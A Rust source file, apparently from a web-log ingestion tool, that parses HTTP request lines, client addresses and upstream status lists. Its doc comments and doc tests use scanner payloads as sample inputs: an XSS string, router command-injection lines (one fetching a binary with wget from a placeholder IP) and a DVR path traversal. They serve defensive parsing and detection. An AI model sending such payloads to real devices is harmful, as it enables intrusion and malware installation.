//! Pieces every text decoder shares: the request line, client addresses, `-` for "absent".

use std::borrow::Cow;

use crate::batch::Str;

/// A request line's parts: all three, the method and target of a line sent without a
/// protocol, or none and what was received instead (see [`request_line`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RequestLine<'a> {
    /// The method as logged (`GET`, or an odd `PATCHp`).
    pub method: Option<&'a str>,
    /// The target between the method and the protocol.
    pub target: Option<&'a str>,
    /// The protocol as logged (`HTTP/1.1`, or a made-up `HTTP/1.2`).
    pub protocol: Option<&'a str>,
    /// When the line is no complete request but the client did send something: the line as
    /// logged (TLS or other binary bytes as the server escaped them, `\x16\x03\x01`; a protocol
    /// banner, `SSH-2.0-Go`; a line without its protocol, `GET /`, whose method and target are
    /// read as well), at most [`UNPARSED_MAX_BYTES`] of it. `None` for a complete request, and
    /// for an empty line, `-` or Envoy's `- - -` (nothing received).
    pub unparsed: Option<&'a str>,
}

/// Longest [`RequestLine::unparsed`] kept: enough to tell the protocol (a TLS record header, an
/// RDP cookie, an SSH banner), and bounded whatever the client sent.
pub const UNPARSED_MAX_BYTES: usize = 128;

/// Splits a request line `METHOD TARGET PROTOCOL`. Anything else (an empty line, `-`, one
/// word, TLS or other binary bytes, Envoy's `- - -` for TCP) is a real request the server
/// answered but has none of them. A complete line with an odd method (`PATCHp`) or an odd
/// version (`HTTP/1.2`, a bare `HTTP`) keeps them as logged; rules decide what is odd. A target
/// with raw spaces (Apache and NGINX log the line as received; scanners send unencoded payloads
/// such as `/x"><img src=N onerror=alert(1)>`) is everything between the method and the
/// protocol, so the rules still see the payload. A line without a protocol whose target is a
/// path (HTTP/0.9's `GET /page`, a line cut short, a router exploit sent by hand,
/// `GET /bin/zhttpd/${IFS}cd${IFS}/tmp;...` or `/shell?cd+/tmp;wget+ 203.0.113.9/arm` with its
/// raw spaces) gives the method and everything after it as the target, with no protocol, and
/// keeps the line in [`RequestLine::unparsed`] too: the rules read its path and still see that
/// it was no complete request.
///
/// ```
/// # use gatewatch_ingest::decode::request::request_line;
/// let parts = |l| { let r = request_line(l); (r.method, r.target, r.protocol) };
/// assert_eq!(parts("GET /a?b HTTP/1.1"), (Some("GET"), Some("/a?b"), Some("HTTP/1.1")));
/// assert_eq!(parts("PATCHp /x HTTP/1.2"), (Some("PATCHp"), Some("/x"), Some("HTTP/1.2")));
/// assert_eq!(parts("GET /a b=c HTTP/1.1"), (Some("GET"), Some("/a b=c"), Some("HTTP/1.1")));
/// assert_eq!(parts("\\x16\\x03\\x01"), (None, None, None));
/// assert_eq!(parts("- - -"), (None, None, None));
/// assert_eq!(parts("GET /"), (Some("GET"), Some("/"), None));
/// assert_eq!(parts("GET /bin/zhttpd/${IFS}cd${IFS}/tmp;"), (Some("GET"), Some("/bin/zhttpd/${IFS}cd${IFS}/tmp;"), None));
/// assert_eq!(parts("GET /a b"), (Some("GET"), Some("/a b"), None));
/// assert_eq!(parts("GET /shell?cd+/tmp;wget+ 203.0.113.9/arm"), (Some("GET"), Some("/shell?cd+/tmp;wget+ 203.0.113.9/arm"), None));
/// assert_eq!(parts("GET a b"), (None, None, None));
/// assert_eq!(parts("GET  HTTP/1.1"), (None, None, None));
/// // A DVR exploit's hand-made line: a relative traversal, a protocol without its version.
/// assert_eq!(parts("GET ../../mnt/custom/ProductDefinition HTTP"), (Some("GET"), Some("../../mnt/custom/ProductDefinition"), Some("HTTP")));
/// let unparsed = |l| request_line(l).unparsed;
/// assert_eq!(unparsed("\\x16\\x03\\x01\\x00"), Some("\\x16\\x03\\x01\\x00"));
/// assert_eq!(unparsed("SSH-2.0-Go"), Some("SSH-2.0-Go"));
/// assert_eq!(unparsed("GET / HTTP/1.1"), None);
/// assert_eq!(unparsed("GET /"), Some("GET /"));
/// assert_eq!(unparsed("GET /a b"), Some("GET /a b"));
/// assert_eq!(unparsed("-"), None);
/// assert_eq!(unparsed("- - -"), None);
/// assert_eq!(unparsed(""), None);
/// assert_eq!(unparsed(&"\\x00".repeat(100)).map(str::len), Some(128));
/// ```
pub fn request_line(line: &str) -> RequestLine<'_> {
    let no_request = || RequestLine {
        unparsed: unparsed(line),
        ..RequestLine::default()
    };
    let (Some((m, _)), Some((before_protocol, p))) = (line.split_once(' '), line.rsplit_once(' '))
    else {
        return no_request();
    };
    // A bare `HTTP` (no version) closes a hand-made line as a protocol would: kept as logged,
    // for the rules to find the version that does not exist.
    if !is_protocol(p) && p != "HTTP" {
        // No protocol: everything after the method is the target (raw spaces are a payload
        // sent unencoded), and the line stays on record as incomplete.
        let after_method = line.get(m.len() + 1..).unwrap_or("");
        if is_method(m) && after_method.starts_with('/') {
            return RequestLine {
                method: Some(m),
                target: Some(after_method),
                protocol: None,
                unparsed: unparsed(line),
            };
        }
        return no_request();
    }
    // The target lies between the first and the last space.
    let t = before_protocol.get(m.len() + 1..).unwrap_or("");
    if t.trim().is_empty() || !is_method(m) {
        return no_request();
    }
    RequestLine {
        method: Some(m),
        target: Some(t),
        protocol: Some(p),
        unparsed: None,
    }
}

/// A line that is no request, as [`RequestLine::unparsed`] keeps it.
fn unparsed(line: &str) -> Option<&str> {
    if line.bytes().all(|b| b == b'-' || b == b' ') {
        return None;
    }
    line.get(..line.floor_char_boundary(UNPARSED_MAX_BYTES))
}

/// A protocol logged on its own (Envoy's `protocol`, `%PROTOCOL%`, NGINX `$server_protocol`,
/// Apache `%H`) when it is an HTTP version at all: Istio Mixer logs `http` or `tcp` there.
pub fn http_protocol(p: &str) -> Option<&str> {
    is_protocol(p).then_some(p)
}

/// A method token as HTTP allows it in practice: letters, `-` and `_`, at most 32 bytes.
pub fn is_method(m: &str) -> bool {
    !m.is_empty()
        && m.len() <= 32
        && m.bytes()
            .all(|b| b.is_ascii_alphabetic() || b == b'-' || b == b'_')
}

fn is_protocol(p: &str) -> bool {
    p.starts_with("HTTP/") || p.starts_with("HTTPS/")
}

/// `-` and the empty string mean "absent" in every text log format.
pub fn present(s: &str) -> Option<&str> {
    (s != "-" && !s.is_empty()).then_some(s)
}

/// A client address as logged, without its port: `1.2.3.4:5678` -> `1.2.3.4`,
/// `[::1]:80` -> `::1`; a bare IPv6 address is returned whole. `-`, empty and Unix sockets
/// (`unix:`, `unix:/run/x.sock`) are `None`.
///
/// ```
/// # use gatewatch_ingest::decode::request::client_addr;
/// assert_eq!(client_addr("10.0.0.1:443"), Some("10.0.0.1"));
/// assert_eq!(client_addr("[2001:db8::1]:443"), Some("2001:db8::1"));
/// assert_eq!(client_addr("2001:db8::1"), Some("2001:db8::1"));
/// assert_eq!(client_addr("unix:"), None);
/// assert_eq!(client_addr("-"), None);
/// ```
pub fn client_addr(addr: &str) -> Option<&str> {
    let addr = present(addr)?;
    if addr.starts_with("unix:") {
        return None;
    }
    if let Some(rest) = addr.strip_prefix('[') {
        return rest.split(']').next().and_then(present);
    }
    match addr.rsplit_once(':') {
        // One colon: IPv4 (or a name) with a port. Several colons: a bare IPv6 address.
        Some((host, port)) if !host.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => {
            present(host)
        }
        _ => Some(addr),
    }
}

/// The first hop of an `X-Forwarded-For` list, trimmed.
pub fn first_forwarded(xff: &str) -> Option<&str> {
    present(xff.split(',').next().unwrap_or(xff).trim()).and_then(client_addr)
}

/// Applies a sub-slicing function to a borrowed-or-owned string, keeping the borrow when there
/// is one (`client_addr` on a JSON string without escapes allocates nothing).
pub(crate) fn map_str<'a>(
    whole: Str<'a>,
    f: impl for<'x> FnOnce(&'x str) -> Option<&'x str>,
) -> Option<Str<'a>> {
    match whole {
        Cow::Borrowed(b) => f(b).map(Cow::Borrowed),
        Cow::Owned(o) => f(&o).map(|s| Cow::Owned(s.to_owned())),
    }
}

/// The last status of an NGINX upstream status list: `502, 200` (servers tried) and
/// `502 : 200` (internal redirects) both give 200; `-` and non-numbers give `None`.
///
/// ```
/// # use gatewatch_ingest::decode::request::last_status;
/// assert_eq!(last_status("502 : 200"), Some(200));
/// assert_eq!(last_status("200, -"), None);
/// assert_eq!(last_status("404"), Some(404));
/// ```
pub fn last_status(s: &str) -> Option<i64> {
    s.rsplit([',', ':'])
        .next()
        .and_then(|last| last.trim().parse::<i64>().ok())
}

/// A status logged as text: a number, or a list whose last entry is the final status
/// (`502, 200`; `502 : 200`). `-` or empty, alone or last, is absent (`Ok(None)`); other text
/// is a wrong type (`Err`), for the decoder to report.
pub(crate) fn loose_status(s: &str) -> Result<Option<i64>, ()> {
    let last = s.rsplit([',', ':']).next().unwrap_or(s).trim();
    if last.is_empty() || last == "-" {
        return Ok(None);
    }
    last.parse::<i64>().map(Some).map_err(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a client sent instead of a request is kept up to the bound, cut where a character
    /// starts: a line of two-byte characters never ends in half of one.
    #[test]
    fn an_unparsed_line_is_cut_at_a_character_boundary() {
        let line = "é".repeat(UNPARSED_MAX_BYTES);
        let kept = unparsed(&line).expect("kept");
        assert_eq!(kept.len(), UNPARSED_MAX_BYTES);
        let odd = format!("x{line}");
        let kept = unparsed(&odd).expect("kept");
        assert_eq!(kept.len(), UNPARSED_MAX_BYTES - 1);
        assert!(odd.starts_with(kept));
        assert_eq!(unparsed("\\x16\\x03\\x01"), Some("\\x16\\x03\\x01"));
        assert_eq!(unparsed("- -"), None);
    }
}
